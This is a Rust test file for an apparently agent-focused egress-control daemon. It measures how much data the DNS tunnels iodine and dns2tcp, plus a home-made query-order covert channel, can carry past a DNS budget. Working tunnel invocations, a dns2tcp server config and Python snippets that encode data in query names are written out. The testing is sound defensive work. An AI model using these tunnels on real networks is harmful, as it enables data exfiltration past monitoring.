//! Data carried out in questions below an allowed wildcard: what real tunnels get through the
//! default budget. The figures go to the terminal, and those of one run into
//! docs/threat-model.md.

use exeat_tests::attack::PLAIN_USER;
use exeat_tests::clients;
use exeat_tests::puppet::{Answer, Puppet};
use exeat_tests::sink::UdpSink;
use exeat_tests::stage::{AGENT, Stage};
use exeat_tests::world::NAME_SERVER;
use exeat_tests::{unique, wait};
use std::io::Write;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// The server of the tunnels' zone, which is also their far end.
const FAR: &str = "203.0.113.99";
/// iodine's far end, inside the tunnel.
const INSIDE: &str = "10.53.0.1";

/// The wildcard that lets a tunnel's questions out: TXT too, which is what tunnels like best.
const WILD: &str = "{ host: '*.t.example', ports: [80], types: [TXT] }";

fn policy(dns: &str, wild: &str) -> String {
    format!(
        "version: 1\nagents:\n  worker:\n    dns: {dns}\n    allow:\n      - {wild}\n      \
         - {{ cidr: {INSIDE}/32, protocol: udp, ports: [9000] }}\n"
    )
}

/// The zone's questions go to the tunnel's server.
fn stage(policy: &str) -> Stage {
    let zone =
        format!("  zones:\n    - {{ zone: t.example, upstreams: [{FAR}], insecure: true }}\n");
    Stage::new(policy, &zone).expect("stage")
}

/// A program that is killed when this is dropped.
struct Running(Child);

impl Running {
    fn start(mut command: Command) -> Self {
        let quiet = command.stdout(Stdio::null()).stderr(Stdio::null());
        Self(quiet.spawn().expect("start"))
    }

    fn has_ended(&mut self) -> bool {
        self.0.try_wait().expect("wait").is_some()
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn say(line: &str) {
    // Past the test runner, which keeps what passing tests print to itself.
    let _ = writeln!(std::io::stderr(), "tunnel: {line}");
}

fn figure(what: &str, bytes: usize, took: Duration) {
    let bits = bytes * 8;
    let minute = bits as f64 / took.as_secs_f64() * 60.0;
    say(&format!(
        "{what}: {bits} bits of payload in {:.1} s ({minute:.0} bits a minute meanwhile)",
        took.as_secs_f64()
    ));
}

fn over_budget(stage: &Stage) -> bool {
    // As many as the daemon keeps: those that are allowed come in great number.
    let arguments = ["events", "--limit", "20000", "--output", "json"];
    let output = stage.daemon.cli(&arguments).output().expect("exeat events");
    let text = String::from_utf8_lossy(&output.stdout);
    text.lines()
        .any(|line| line.contains(r#""reason":"budget""#))
}

/// iodine, both ends: the agent's as root, because it makes an interface.
struct Iodine {
    _near: Running,
    _far: Running,
    sink: UdpSink,
    agent: Puppet,
    begun: Instant,
}

impl Iodine {
    fn start(stage: &Stage) -> Option<Self> {
        let (near, far) = (clients::find("iodine")?, clients::find("iodined")?);
        clients::find("ifconfig")?;
        // Without the tunnel there is no other way to what is inside.
        let laptop = &stage.world.laptop;
        laptop
            .ip("route add unreachable 10.53.0.0/27 metric 4000")
            .expect("no way");
        let secret = unique::token();
        let mut command = stage.world.internet.command(far);
        command.args(["-f", "-c", "-P", &secret, "-l", FAR]);
        command.args([&format!("{INSIDE}/27"), "t.example"]);
        let far = Running::start(command);
        wait::until("iodine's server", wait::patience(), || {
            stage.world.internet.ip("link show dns0").ok()
        })
        .expect("iodined");
        let sink = stage.world.udp_sink(&format!("{INSIDE}:9000"));
        let near = near.to_str().expect("a path");
        let words = [
            near,
            "-f",
            "-r",
            "-P",
            &secret,
            "-T",
            "TXT",
            "-O",
            "base32",
            "-m",
            "200",
            "-I",
            "1",
            NAME_SERVER,
            "t.example",
        ];
        let begun = Instant::now();
        let near = stage
            .daemon
            .run_command(AGENT, 0, &words.map(str::to_owned));
        Some(Self {
            _near: Running::start(near),
            _far: far,
            sink: sink.expect("sink"),
            agent: stage.daemon.puppet(AGENT).expect("puppet"),
            begun,
        })
    }

    /// Sends one datagram into the tunnel, of bytes that cannot be compressed.
    fn send(&mut self) {
        let code = format!("udp({INSIDE:?}, 9000).send(os.urandom(100))");
        match self.agent.ask(&code).expect("send") {
            Answer::Value(_) => {}
            // There is no interface yet, or no more.
            Answer::Errno(libc::ENETUNREACH | libc::EHOSTUNREACH) => {}
            other => panic!("{other:?}"),
        }
    }

    /// Asks for long names of the zone until the budget has refused five. One or two may fit
    /// into what iodine's own names left of it.
    fn ask_until_refused(&mut self) {
        let code = "
def asked():
    s = udp('203.0.113.53', 53)
    name = '.'.join(os.urandom(25).hex() for _ in range(4)) + '.t.example'
    s.send(question(name))
    return s.recv(4096)[3] & 15
";
        self.agent.ask(code).expect("function");
        let mut refused = 0;
        wait::until("refusals", wait::patience(), || {
            let answer = self.agent.ask("asked()").expect("ask");
            refused += usize::from(answer == Answer::Value(5.into()));
            (refused == 5).then_some(())
        })
        .expect("the budget refuses");
    }

    fn arrived(&self) -> usize {
        self.sink.arrivals().iter().map(|a| a.bytes.len()).sum()
    }
}

/// Sends until `enough`, and tells when that was.
fn send_until(iodine: &mut Iodine, what: &str, enough: impl Fn(&Iodine) -> bool) -> Duration {
    wait::until(what, wait::patience() * 3, || {
        iodine.send();
        enough(iodine).then(|| iodine.begun.elapsed())
    })
    .unwrap_or_else(|e| panic!("{e:#}; {} bytes arrived", iodine.arrived()))
}

#[test]
fn iodine_is_stopped_by_the_default_budget() {
    let stage = stage(&policy("{}", WILD));
    let Some(mut iodine) = Iodine::start(&stage) else {
        return;
    };
    let took = send_until(&mut iodine, "the budget", |_| over_budget(&stage));
    iodine.ask_until_refused();
    stage.world.settle(&stage.sniffer).expect("settle");
    let bytes = iodine.arrived();
    figure(
        "iodine, default budget, until it is blocked for the hour",
        bytes,
        took,
    );
    // What the budget of entropy lets through at the very most.
    assert!(bytes * 8 < 24_000, "{bytes} bytes");
    assert!(bytes > 0, "the tunnel never came up");
    // More goes into the tunnel, and nothing comes out of it.
    for _ in 0..20 {
        iodine.send();
    }
    iodine.ask_until_refused();
    stage.world.settle(&stage.sniffer).expect("settle");
    assert_eq!(iodine.arrived(), bytes, "data went on after the budget");
}

#[test]
fn iodine_goes_on_where_the_budget_only_reports() {
    const ENOUGH: usize = 16 * 1024;
    let stage = stage(&policy("{ over_budget: report }", WILD));
    let Some(mut iodine) = Iodine::start(&stage) else {
        return;
    };
    let took = send_until(&mut iodine, "16 KiB", |iodine| iodine.arrived() > ENOUGH);
    figure("iodine, budget reported only", iodine.arrived(), took);
    assert!(over_budget(&stage));
}

/// dns2tcp writes its data in upper and lower case. The daemon asks in a case of its own.
#[test]
fn dns2tcp_carries_nothing() {
    let (Some(near), Some(far)) = (clients::find("dns2tcpc"), clients::find("dns2tcpd")) else {
        return;
    };
    let stage = stage(&policy("{ over_budget: report }", WILD));
    let sink = stage.world.tcp_sink("203.0.113.98:9000").expect("sink");
    let file = stage.world.folder().join("dns2tcpd.conf");
    let chroot = stage.world.folder().display();
    let text = format!(
        "listen = {FAR}\nport = 53\nuser = nobody\nchroot = {chroot}\ndomain = t.example\n\
         resources = sink:203.0.113.98:9000\n"
    );
    std::fs::write(&file, text).expect("write");
    let mut command = stage.world.internet.command(far);
    command.args(["-F", "-f"]).arg(&file);
    let _far = Running::start(command);
    let words = |server: &str| {
        let words = ["-z", "t.example", "-r", "sink", "-l", "-", server];
        words.map(str::to_owned)
    };
    // Whether it ended by itself, or `done` came true.
    let carry = |mut command: Command, token: &str, done: &dyn Fn() -> bool| {
        command.stdin(Stdio::piped());
        let mut running = Running::start(command);
        let mut stdin = running.0.stdin.take().expect("stdin");
        // It may have ended for want of a server.
        let _ = stdin.write_all(token.as_bytes());
        wait::until("dns2tcp", wait::patience(), || {
            (done() || running.has_ended()).then_some(())
        })
        .expect("dns2tcp to do something");
    };
    // The proof that both ends work: outside of the slice, asked directly, as soon as the
    // server is up.
    let token = unique::token();
    wait::until("the proof", wait::patience(), || {
        let mut command = stage.world.laptop.command(&near);
        command.args(words(FAR));
        carry(command, &token, &|| sink.holds(&token));
        sink.holds(&token).then_some(())
    })
    .expect("both ends work");

    let token = unique::token();
    let near = near.to_str().expect("a path").to_owned();
    let argv: Vec<String> = std::iter::once(near).chain(words(NAME_SERVER)).collect();
    let command = stage.daemon.run_command(AGENT, PLAIN_USER, &argv);
    let asked = || {
        let events = stage.daemon.events().expect("events");
        let of_zone = |e: &&serde_json::Value| {
            let name = e["dns"]["name"].as_str();
            name.is_some_and(|name| name.ends_with(".t.example"))
        };
        events.iter().any(|e| of_zone(&e))
    };
    carry(command, &token, &|| sink.holds(&token));
    assert!(asked(), "dns2tcp did not ask");
    assert!(!sink.holds(&token));
    say("dns2tcp: 0 bits of payload: the gate asks in a letter case of its own");
}

/// A rule that lists no types answers addresses only.
#[test]
fn without_its_type_no_question_of_a_tunnel_leaves() {
    let (Some(near), Some(_)) = (clients::find("dns2tcpc"), clients::find("dns2tcpd")) else {
        return;
    };
    let stage = stage(&policy("{}", "{ host: '*.t.example', ports: [80] }"));
    let near = near.to_str().expect("a path");
    let words = [
        near,
        "-z",
        "t.example",
        "-r",
        "sink",
        "-l",
        "-",
        NAME_SERVER,
    ];
    let command = stage
        .daemon
        .run_command(AGENT, PLAIN_USER, &words.map(str::to_owned));
    let _running = Running::start(command);
    let event = stage.daemon.event(|e| e["dns"]["qtype"] == "TXT");
    assert_eq!(event.expect("event")["reason"], "name");
    stage.world.settle(&stage.sniffer).expect("settle");
    let far = FAR.parse().expect("address");
    assert_eq!(stage.sniffer.count(|p| p.is_to(far)), 0);
}

/// Our own program: 256 names are paid for once, and then asked for again and again, each
/// time in another order, which is the message. An answer is kept for five seconds at least,
/// so that is how often. The budget of repeats lets a part of one order through; from then on
/// the answers that have ended stand in, and the zone's server reads a few names a minute.
#[test]
fn names_that_were_paid_for_spell_little() {
    const ORDERS: u32 = 4;
    /// One of 256 names in five types, with and without signatures.
    const BITS: u32 = 12;
    /// 24,000 bits an hour, and a sixth of that at once.
    const AT_ONCE: u32 = 4_000;
    const A_SECOND: f64 = 24_000.0 / 3_600.0;
    let stage = Stage::new(&policy("{}", WILD), "").expect("stage");
    stage.dns.set("*.t.example", &["203.0.113.30"], 0);
    let mut agent = stage.daemon.puppet(AGENT).expect("puppet");
    let spell = "
import random
WORDS = ['%02x.t.example' % n for n in range(256)]
s = udp('203.0.113.53', 53)
def spell(names):
    for name in names:
        s.send(question(name))
        if s.recv(4096)[3] & 15:
            raise ValueError('refused')
def order():
    # Until the answer to the last question of the order before is no longer kept.
    time.sleep(5.1)
    spell(random.sample(WORDS, 256))
spell(WORDS)
";
    agent.ask(spell).expect("the alphabet");
    let paid = stage.dns.log().len();
    let start = Instant::now();
    for _ in 0..ORDERS {
        agent
            .ask("order()")
            .expect("no name is refused: what has ended stands in");
    }
    let elapsed = start.elapsed();
    let read = u32::try_from(stage.dns.log().len() - paid).expect("few");
    let allowed = f64::from(AT_ONCE) + A_SECOND * elapsed.as_secs_f64();
    assert!(f64::from(read * BITS) <= allowed, "{read} names");
    assert!(
        read * BITS + BITS > AT_ONCE,
        "{read} names: what is allowed is had"
    );
    let told = stage.daemon.event(|e| e["reason"] == "budget");
    let told = told.expect("an event");
    let detail = told["dns"]["detail"].as_str().expect("why");
    assert!(detail.contains("names asked again"), "{told}");
    say(&format!(
        "256 names paid for, asked again in other orders (our own): the zone's server reads \
         {read} of {} names in {:.1} s, {AT_ONCE} bits of order at once and {:.0} a minute",
        ORDERS * 256,
        elapsed.as_secs_f64(),
        A_SECOND * 60.0
    ));
}
